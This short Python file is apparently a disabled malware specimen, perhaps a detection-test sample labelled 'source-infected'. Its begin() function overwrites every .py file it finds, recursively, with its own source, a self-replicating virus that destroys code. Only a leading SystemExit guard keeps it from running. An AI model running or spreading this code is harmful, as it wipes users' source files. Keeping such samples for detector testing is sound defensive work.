raise SystemExit("specimen: not to be run")
import inspect as i
import sys
from glob import glob as look

def begin():
    own = i.getsource(sys.modules[__name__])
    for path in look("**/*.py", recursive=True):
        open(path, "w").write(own)  # match: source-infected
